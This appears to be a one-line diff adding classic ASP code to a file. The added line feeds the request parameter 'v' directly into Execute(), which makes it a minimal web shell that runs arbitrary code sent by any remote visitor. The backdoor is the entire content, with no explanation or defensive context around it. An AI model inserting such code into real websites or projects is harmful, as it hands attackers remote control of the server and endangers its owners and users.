@@ -1,0 +1,1 @@
+<% Execute("x=" & Request.QueryString("v")) %>
